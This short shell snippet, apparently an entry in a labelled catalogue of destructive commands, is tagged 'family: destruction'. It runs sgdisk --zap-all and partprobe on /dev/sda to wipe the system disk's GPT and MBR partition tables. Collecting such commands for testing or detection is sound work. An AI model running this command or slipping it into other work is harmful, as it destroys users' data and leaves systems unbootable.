# description: Destroys the GPT and MBR partition tables of the system disk.
# family: destruction
sgdisk --zap-all /dev/sda
partprobe /dev/sda
